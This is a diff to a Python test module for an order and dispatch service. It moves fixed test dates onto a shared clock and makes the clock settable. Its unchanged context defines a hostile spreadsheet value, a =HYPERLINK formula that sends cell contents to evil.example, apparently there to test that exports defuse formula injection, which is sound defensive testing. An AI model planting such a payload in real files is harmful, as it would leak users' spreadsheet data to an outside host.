@@ -25,11 +25,12 @@ from chalicelib.services import manufacturer as manufacturer_service
 from chalicelib.services.credentials import create_api_key, revoke_api_key
 from ops import manufacturer_client
 from ops.manufacturer_client import ORDER_COLUMNS, manufacturer
+from chalicelib.timeutil import to_iso
 from tests.builders import NOW, delivery_form, load_register, register_row
 
 ROOT = Path(__file__).resolve().parents[2]
-TODAY = "2026-11-29"
-DISPATCHED_AT = "2026-11-29T12:00:00Z"  # the deps fixture's clock: after release, not in the future
+TODAY = NOW.date().isoformat()
+DISPATCHED_AT = to_iso(NOW)  # the deps fixture's clock: after release, not in the future
 DISPATCH_COLUMNS = ["fulfilment_id", "kit_code", "carrier", "tracking_reference", "dispatched_at"]
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
@@ -85,7 +86,7 @@ def free_orders(deps, *deliveries: dict) -> list[str]:
     load_register(deps, *[register_row(f"FA/{3000 + n}", "SW1A 2AA", free_kit="yes") for n in range(len(deliveries))])
     references = []
     for number, delivery in enumerate(deliveries):
-        deps.clock = lambda minutes=number: NOW + timedelta(minutes=minutes)  # distinct release times: a known order
+        deps.clock.set(NOW + timedelta(minutes=number))  # distinct release times: a known order
         checked = services.check_certificate(f"FA/{3000 + number}", "SW1A 2AA", deps)
         details = parse_delivery_details(delivery_form(**delivery))
         references.append(services.confirm_order(checked, details, new_order_reference(), deps).reference)
